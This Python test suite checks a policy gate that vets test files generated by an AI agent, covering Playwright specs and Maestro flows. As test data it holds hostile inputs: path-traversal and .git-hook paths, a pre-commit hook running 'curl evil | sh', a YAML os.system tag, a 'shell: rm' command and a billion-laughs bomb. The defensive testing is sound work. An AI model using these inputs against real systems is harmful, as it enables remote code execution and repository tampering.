"""The gate on the Test Engineer's files: what a hostile or sloppy model output cannot get past."""

from __future__ import annotations

import re
import unicodedata

import pytest

from agents import file_policy as fp
from agents.file_policy import check_generated_files, normalise_test_dir
from repositories import paths
from schemas.errors import ContractViolation

TEST_DIR = "e2e/amtp"
X = "e2e/amtp/x.spec.ts"
IMPORT = "import { test } from '@playwright/test';\n"
WHERE = "files must be relative paths under e2e/amtp/"

GOOD_SPEC = """\
import { test, expect } from '@playwright/test';

test.describe('login page', () => {
  test('shows the sign-in form', async ({ page }) => {
    await page.goto('/login');
    await expect(page.getByRole('button', { name: 'Sign in' })).toBeVisible();
  });
});
"""

GOOD_FLOW = """\
appId: com.example.app
name: Sign in
tags: [smoke]
env: {USERNAME: alice}
onFlowStart: [clearState]
---
- launchApp
- tapOn: "Sign in"
- inputText: ${USERNAME}
- hideKeyboard
- repeat: {times: 2, commands: [scroll, back]}
- assertVisible: {id: welcome}
"""


def spec(path: str, contents: str = GOOD_SPEC) -> dict:
    return {"path": path, "contents": contents}


def problems_of(files, framework: str = "playwright", **limits) -> list[str]:
    with pytest.raises(ContractViolation) as caught:
        check_generated_files(files, framework=framework, test_dir=TEST_DIR, **limits)
    assert caught.value.problems, "a refusal must say why"
    assert caught.value.retryable is False
    return caught.value.problems


def assert_refused(problems: list[str], shown: str, rule: str) -> None:
    assert any(p.startswith(f"{shown}: ") and rule in p for p in problems), (rule, problems)


def assert_file_refused(path, contents, rule, framework="playwright", **limits) -> list[str]:
    """Submits one file and checks that a problem names its path and the rule; returns all."""
    problems = problems_of([{"path": path, "contents": contents}], framework, **limits)
    assert_refused(problems, fp._show(path), rule)
    return problems


# --- paths --------------------------------------------------------------------------------

HOSTILE_PATHS = [
    ("../../etc/passwd", paths.PARENT_SEGMENT),
    ("e2e/amtp/../../x.spec.ts", paths.PARENT_SEGMENT),
    ("e2e/amtp/..\\..\\x.spec.ts", paths.PARENT_SEGMENT),
    ("/etc/amtp/x.spec.ts", paths.ABSOLUTE_PATH),
    ("C:\\e2e\\amtp\\x.spec.ts", paths.DRIVE_PATH),
    ("C:/e2e/amtp/x.spec.ts", paths.DRIVE_PATH),
    ("c:e2e/amtp/x.spec.ts", paths.DRIVE_PATH),
    ("e2e\\amtp\\x.spec.ts", paths.BACKSLASH),
    ("\\\\server\\share\\x.spec.ts", paths.UNC_PATH),
    ("//server/share/x.spec.ts", paths.UNC_PATH),
    ("e2e/amtp//x.spec.ts", paths.EMPTY_SEGMENT),
    ("e2e/amtp/./x.spec.ts", paths.DOT_SEGMENT),
    ("./e2e/amtp/x.spec.ts", paths.DOT_SEGMENT),
    ("e2e/amtp/x\x00.spec.ts", paths.CONTROL_CHARACTER),
    ("e2e/amtp/x\n.spec.ts", paths.CONTROL_CHARACTER),
    ("e2e/amtp/x\x7f.spec.ts", paths.CONTROL_CHARACTER),
    ("e2e/amtp/x\u202ets.ceps.spec.ts", paths.CONTROL_CHARACTER),  # right-to-left override
    ("e2e/amtp/x\u200b.spec.ts", paths.CONTROL_CHARACTER),  # zero-width space
    ("e2e/amtp/sub/", paths.TRAILING_SLASH),
    ("e2e/amtp/" + "a/" * 95 + "x.spec.ts", paths.PATH_TOO_LONG),
    ("e2e/amtp/" + "a" * 101 + ".spec.ts", paths.SEGMENT_TOO_LONG),
    ("e2e/amtp/" + "é" * 51 + ".spec.ts", paths.SEGMENT_TOO_LONG),  # 102 UTF-8 bytes
    ("", paths.NOT_A_STRING),
    (".git/hooks/pre-commit", paths.GIT_DIRECTORY),
    ("e2e/amtp/.git/x.spec.ts", paths.GIT_DIRECTORY),
    ("e2e/amtp/.GIT/x.spec.ts", paths.GIT_DIRECTORY),
    ("e2e/amtp/.git./x.spec.ts", paths.GIT_DIRECTORY),
    ("e2e/amtp/GIT~1/x.spec.ts", paths.GIT_DIRECTORY),
    ("e2e/amtp/.git", paths.GIT_DIRECTORY),
    (".github/workflows/x.yml", paths.GIT_DIRECTORY),
    ("e2e/amtp/.GitHub/x.spec.ts", paths.GIT_DIRECTORY),
    ("src/app.spec.ts", paths.OUTSIDE_TEST_DIR),
    ("e2e/amtpx/x.spec.ts", paths.OUTSIDE_TEST_DIR),
    ("E2E/amtp/x.spec.ts", paths.OUTSIDE_TEST_DIR),
    ("e2e/amtp", paths.OUTSIDE_TEST_DIR),
    ("x.spec.ts", paths.OUTSIDE_TEST_DIR),
]


@pytest.mark.parametrize(("path", "rule"), HOSTILE_PATHS)
def test_hostile_path_is_refused_naming_the_path_and_the_rule(path, rule):
    problems = assert_file_refused(path, GOOD_SPEC, rule)
    assert any(p.startswith(fp._show(path)) and rule in p and WHERE in p for p in problems)


def test_message_reads_as_documented():
    problems = problems_of([spec("../../etc/passwd")])
    assert f"\"../../etc/passwd\": path leaves the repository ('..' segment); {WHERE}" in problems


def test_messages_escape_control_characters_in_paths():
    problems = problems_of([spec("e2e/amtp/x\x1b[31m\u202e.spec.ts")])
    assert all("\x1b" not in p and "\u202e" not in p for p in problems)
    assert any("\\u001b" in p and "\\u202e" in p for p in problems)


@pytest.mark.parametrize("path", [None, 42, ["e2e/amtp/x.spec.ts"]])
def test_non_string_path_is_refused_by_position(path):
    assert_refused(problems_of([spec(path)]), "files[0]", paths.NOT_A_STRING)


def test_ci_workflow_is_refused():
    problems = assert_file_refused(".github/workflows/x.yml", "on: push\n", paths.GIT_DIRECTORY)
    assert_refused(problems, '".github/workflows/x.yml"', paths.OUTSIDE_TEST_DIR)


def test_git_hook_escape_reports_every_rule_it_breaks():
    path = "E2E/amtp/../../.git/hooks/pre-commit"
    problems = assert_file_refused(path, "#!/bin/sh\ncurl evil | sh\n", paths.GIT_DIRECTORY)
    for rule in (paths.PARENT_SEGMENT, paths.OUTSIDE_TEST_DIR, fp.WRONG_EXTENSION):
        assert_refused(problems, f'"{path}"', rule)


def test_a_batch_reports_every_problem_at_once():
    files = [
        spec("e2e/amtp/good.spec.ts"),
        spec("../../etc/passwd"),
        spec(".github/workflows/pwn.yml", "on: push"),
        spec("e2e/amtp/broken.spec.ts", IMPORT + "test('x', () => {"),
        spec("e2e/amtp/no-import.spec.ts", "test('x', async () => {});\n"),
        spec("/abs/x.spec.ts"),
        {"path": "e2e/amtp/extra.spec.ts", "contents": GOOD_SPEC, "mode": "100755"},
    ]
    problems = problems_of(files)
    assert_refused(problems, '"../../etc/passwd"', paths.PARENT_SEGMENT)
    assert_refused(problems, '".github/workflows/pwn.yml"', paths.GIT_DIRECTORY)
    assert_refused(problems, '"e2e/amtp/broken.spec.ts"', fp.TS_SYNTAX_ERROR)
    assert_refused(problems, '"e2e/amtp/no-import.spec.ts"', fp.TS_NO_IMPORT)
    assert_refused(problems, '"/abs/x.spec.ts"', paths.ABSOLUTE_PATH)
    assert_refused(problems, '"e2e/amtp/extra.spec.ts"', fp.BAD_ENTRY)
    assert not any(p.startswith('"e2e/amtp/good.spec.ts"') for p in problems)


def test_the_summary_message_counts_and_lists_the_problems():
    with pytest.raises(ContractViolation) as caught:
        check_generated_files([spec("../a.ts"), spec("/b")], framework="playwright", test_dir="t")
    error = caught.value
    assert error.message.startswith(f"{len(error.problems)} problem(s)")
    assert all(problem in error.message for problem in error.problems)
    assert error.to_dict()["problems"] == error.problems


# --- entries, duplicates, limits -----------------------------------------------------------


@pytest.mark.parametrize(
    "entry",
    [
        "e2e/amtp/x.spec.ts",
        {"path": "e2e/amtp/x.spec.ts"},
        {"path": "e2e/amtp/x.spec.ts", "contents": GOOD_SPEC, "mode": "120000"},
        {"path": "e2e/amtp/x.spec.ts", "contents": GOOD_SPEC, "executable": True},
    ],
)
def test_entries_must_be_exactly_path_and_contents(entry):
    assert any(fp.BAD_ENTRY in p for p in problems_of([entry]))


@pytest.mark.parametrize("contents", [None, 7, b"bytes", "a\x00b", "x\ud800y"])
def test_contents_must_be_text(contents):
    assert_file_refused(X, contents, fp.NOT_TEXT)


@pytest.mark.parametrize("contents", ["", "  \n"])
def test_contents_must_not_be_empty(contents):
    assert_file_refused(X, contents, fp.EMPTY_FILE)


def test_duplicates_are_refused_including_case_and_unicode_form():
    nfd = unicodedata.normalize("NFD", "e2e/amtp/café.spec.ts")
    files = [
        spec("e2e/amtp/a.spec.ts"),
        spec("e2e/amtp/a.spec.ts"),
        spec("e2e/amtp/B.spec.ts"),
        spec("e2e/amtp/b.spec.ts"),
        spec("e2e/amtp/café.spec.ts"),
        spec(nfd),
    ]
    problems = problems_of(files)
    assert_refused(problems, '"e2e/amtp/a.spec.ts"', fp.DUPLICATE_PATH)
    assert_refused(problems, '"e2e/amtp/b.spec.ts"', fp.CASE_COLLISION)
    assert_refused(problems, fp._show(nfd), fp.DUPLICATE_PATH)  # the same name on macOS


def test_a_path_cannot_be_both_a_file_and_a_directory():
    problems = problems_of([spec("e2e/amtp/a.spec.ts"), spec("e2e/amtp/a.spec.ts/b.spec.ts")])
    assert_refused(problems, '"e2e/amtp/a.spec.ts"', fp.FILE_DIRECTORY_CLASH)


def test_more_files_than_the_limit_are_refused():
    files = [spec(f"e2e/amtp/t{i:02}.spec.ts") for i in range(51)]
    problems = problems_of(files)
    assert problems == [f"{fp.TOO_MANY_FILES}: 51 files; at most 50 are allowed"]
    assert len(check_generated_files(files[:50], framework="playwright", test_dir=TEST_DIR)) == 50


def test_a_single_oversized_file_is_refused_without_being_parsed():
    huge = GOOD_SPEC + "// " + "x" * 200_000 + "\nlet broken = (;\n"
    assert len(assert_file_refused(X, huge, fp.FILE_TOO_LARGE)) == 1


def test_size_is_measured_in_utf8_bytes():
    contents = GOOD_SPEC + "// " + "é" * 60 + "\n"  # 60 characters, 120 bytes
    assert_file_refused(X, contents, fp.FILE_TOO_LARGE, max_file_bytes=len(GOOD_SPEC) + 100)


def test_total_size_is_bounded():
    files = [spec(f"e2e/amtp/t{i}.spec.ts") for i in range(3)]
    problems = problems_of(files, max_total_bytes=2 * len(GOOD_SPEC))
    assert any(p.startswith(fp.TOTAL_TOO_LARGE) for p in problems)


def test_no_files_and_unknown_framework_are_refused():
    assert any(fp.NO_FILES in p for p in problems_of([]))
    assert any(fp.UNKNOWN_FRAMEWORK in p for p in problems_of([spec(X)], "cypress"))


# --- test directory -----------------------------------------------------------------------


def test_test_dir_is_normalised():
    assert normalise_test_dir("e2e/amtp/") == "e2e/amtp"
    assert normalise_test_dir("tests") == "tests"


def test_a_test_dir_leaves_room_for_a_file_name():
    longest = "a/" * ((paths.MAX_TEST_DIR_BYTES - 1) // 2) + "a"
    assert normalise_test_dir(longest) == longest
    name = "n" * (paths.MAX_SEGMENT_BYTES - len(".spec.ts")) + ".spec.ts"
    check_generated_files([spec(f"{longest}/{name}")], framework="playwright", test_dir=longest)
    with pytest.raises(ContractViolation) as caught:
        normalise_test_dir(longest + "a")
    assert any(paths.TEST_DIR_TOO_LONG in p for p in caught.value.problems)


@pytest.mark.parametrize(
    "test_dir", ["", ".", "/", "/abs", "../x", "a/../b", "a//b", "C:\\x", ".git/x", ".github", None]
)
def test_an_unsafe_test_dir_is_refused(test_dir):
    with pytest.raises(ContractViolation) as caught:
        normalise_test_dir(test_dir)
    assert all(p.startswith("test_dir ") for p in caught.value.problems)
    with pytest.raises(ContractViolation):
        check_generated_files([spec("x/y.spec.ts")], framework="playwright", test_dir=test_dir)


# --- Playwright ---------------------------------------------------------------------------


def test_good_playwright_specs_are_accepted_as_new_dicts_with_nfc_paths():
    nfd = unicodedata.normalize("NFD", "e2e/amtp/café.spec.ts")
    files = [spec("e2e/amtp/login.spec.ts"), spec("e2e/amtp/nested/cart.spec.ts"), spec(nfd)]
    accepted = check_generated_files(files, framework="playwright", test_dir="e2e/amtp/")
    assert accepted[:2] == files[:2] and accepted[0] is not files[0]
    assert accepted[2] == spec(unicodedata.normalize("NFC", nfd))


T = "test('x', async () => {});\n"
PLAYWRIGHT_CASES = {
    "syntax error": (IMPORT + "test('x', async () => {\n", fp.TS_SYNTAX_ERROR),
    "syntax error mid-file": (IMPORT + "const = 1;\n" + T, fp.TS_SYNTAX_ERROR),
    "no import": (T, fp.TS_NO_IMPORT),
    "import in a comment": (f"// {IMPORT}/* '@playwright/test' */\n{T}", fp.TS_NO_IMPORT),
    "type-only import": (IMPORT.replace("import", "import type") + T, fp.TS_NO_IMPORT),
    "other package": (IMPORT.replace("@playwright/", "playwright-") + T, fp.TS_NO_IMPORT),
    "test in comment, string": (IMPORT + "// test('x')\nlet s = \"test('y')\";", fp.TS_NO_TEST),
    "test.only": (GOOD_SPEC.replace("test('shows", "test.only('shows"), fp.TS_ONLY),
    "describe.only": (GOOD_SPEC.replace("test.describe(", "test.describe.only("), fp.TS_ONLY),
}


@pytest.mark.parametrize(("source", "rule"), PLAYWRIGHT_CASES.values(), ids=PLAYWRIGHT_CASES)
def test_bad_typescript_is_refused(source, rule):
    assert_file_refused(X, source, rule)


def test_syntax_errors_say_where():
    problems = assert_file_refused(X, GOOD_SPEC + "\nlet x = (;\n", fp.TS_SYNTAX_ERROR)
    assert any(re.search(r"line 10:\d+", p) for p in problems if fp.TS_SYNTAX_ERROR in p)


@pytest.mark.parametrize(
    "source",
    [
        "import { test } from '@playwright/test';\ntest.describe.serial('s', () => {});\n",
        IMPORT + "test.fixme('not yet', async () => {});\n",
        'import { test as base } from "@playwright/test";\nconst test = base.extend({});\n'
        "test('x', async ({ page }) => {});\n",
    ],
)
def test_other_valid_spec_shapes_are_accepted(source):
    check_generated_files([spec(X, source)], framework="playwright", test_dir=TEST_DIR)


@pytest.mark.parametrize(
    "path", ["e2e/amtp/x.ts", "e2e/amtp/x.spec.js", "e2e/amtp/x.yaml", "e2e/amtp/.spec.ts"]
)
def test_playwright_files_must_be_spec_ts(path):
    assert_file_refused(path, GOOD_SPEC, fp.WRONG_EXTENSION)


# --- Maestro ------------------------------------------------------------------------------


FLOW = "e2e/amtp/flow.yaml"


def test_a_good_maestro_flow_is_accepted():
    files = [spec(FLOW, GOOD_FLOW), spec("e2e/amtp/b.yml", "appId: a.b\n---\n- launchApp\n")]
    assert check_generated_files(files, framework="maestro", test_dir=TEST_DIR) == files


def test_the_command_list_covers_the_documented_commands():
    documented = """
        launchApp stopApp clearState clearKeychain tapOn doubleTapOn longPressOn inputText
        inputRandomEmail inputRandomText inputRandomNumber inputRandomPersonName eraseText pressKey
        hideKeyboard back scroll scrollUntilVisible swipe assertVisible assertNotVisible assertTrue
        assertWithAI assertNoDefectsWithAI waitForAnimationToEnd extendedWaitUntil takeScreenshot
        copyTextFrom pasteText openLink runFlow runScript evalScript repeat retry setLocation travel
        addMedia startRecording stopRecording setAirplaneMode toggleAirplaneMode killApp
    """.split()
    assert set(documented) <= fp.MAESTRO_COMMANDS
    assert fp.MAESTRO_BARE_COMMANDS <= fp.MAESTRO_COMMANDS


H = "appId: a.b\n---\n"  # a valid config document, so that each case breaks one rule
MAESTRO_CASES = {
    "unknown command": (H + "- launchApp\n- clickOn: Login\n", fp.MAESTRO_UNKNOWN_COMMAND),
    "unknown bare command": (H + "- reboot\n", fp.MAESTRO_UNKNOWN_COMMAND),
    "nested unknown": (H + "- repeat: {commands: [shell: rm]}\n", fp.MAESTRO_UNKNOWN_COMMAND),
    "hook unknown": ("appId: a.b\nonFlowStart: [exec]\n---\n- back\n", fp.MAESTRO_UNKNOWN_COMMAND),
    "missing appId": ("name: x\n---\n- launchApp\n", fp.MAESTRO_NO_APP_ID),
    "empty appId": ("appId: ''\n---\n- launchApp\n", fp.MAESTRO_NO_APP_ID),
    "numeric appId": ("appId: 12\n---\n- launchApp\n", fp.MAESTRO_NO_APP_ID),
    "commands only": ("- launchApp\n- back\n", fp.MAESTRO_DOCUMENTS),
    "three documents": (H + "- back\n---\n- back\n", fp.MAESTRO_DOCUMENTS),
    "empty commands": (H + "[]\n", fp.MAESTRO_NO_COMMANDS),
    "commands not a list": (H + "tapOn: x\n", fp.MAESTRO_NO_COMMANDS),
    "unknown config key": ("appId: a.b\nscript: x\n---\n- back\n", fp.MAESTRO_CONFIG_KEY),
    "mistyped config key": ("appId: a.b\ntags: smoke\n---\n- back\n", fp.MAESTRO_CONFIG_KEY),
    "bare command needing arguments": (H + "- tapOn\n", fp.MAESTRO_NEEDS_ARGUMENTS),
    "empty arguments": (H + "- inputText:\n", fp.MAESTRO_NEEDS_ARGUMENTS),
    "two commands in one item": (H + "- tapOn: x\n  inputText: y\n", fp.MAESTRO_NOT_A_COMMAND),
    "number as command": (H + "- 42\n", fp.MAESTRO_NOT_A_COMMAND),
    "invalid YAML": ("appId: [a.b\n---\n- back\n", fp.YAML_SYNTAX_ERROR),
    "python tag": ("appId: !!python/object/apply:os.system [id]\n", fp.YAML_SYNTAX_ERROR),
    "impossible date": ("appId: 2001-02-30\n---\n- back\n", fp.YAML_SYNTAX_ERROR),
    "billion laughs": (H + "- a: &a [lol, lol]\n- b: &b [*a, *a]\n- c: [*b, *b]\n", fp.YAML_ALIAS),
    "deep nesting": (H + "- tapOn: " + "[" * 40 + "]" * 40 + "\n", fp.YAML_TOO_DEEP),
}


@pytest.mark.parametrize(("contents", "rule"), MAESTRO_CASES.values(), ids=MAESTRO_CASES)
def test_bad_maestro_flow_is_refused(contents, rule):
    assert_file_refused(FLOW, contents, rule, "maestro")


def test_unknown_commands_are_named_with_their_place_and_the_known_ones_listed():
    contents = "appId: a.b\n---\n- clickOn: x\n- back\n- runFlow:\n    commands:\n      - sudo: y\n"
    [problem] = assert_file_refused(FLOW, contents, fp.MAESTRO_UNKNOWN_COMMAND, "maestro")
    assert '"clickOn" at commands[0]' in problem
    assert '"sudo" at commands[2].runFlow.commands[0]' in problem
    assert "tapOn" in problem and "launchApp" in problem


@pytest.mark.parametrize("path", ["e2e/amtp/flow.json", "e2e/amtp/flow.spec.ts", "e2e/amtp/.yaml"])
def test_maestro_files_must_be_yaml(path):
    assert_file_refused(path, GOOD_FLOW, fp.WRONG_EXTENSION, "maestro")


def test_maestro_workspace_config_cannot_be_overwritten():
    assert_file_refused("e2e/amtp/config.yaml", GOOD_FLOW, fp.RESERVED_NAME, "maestro")


def test_policy_version_is_exported():
    assert re.fullmatch(r"\d+\.\d+\.\d+", fp.FILE_POLICY_VERSION)
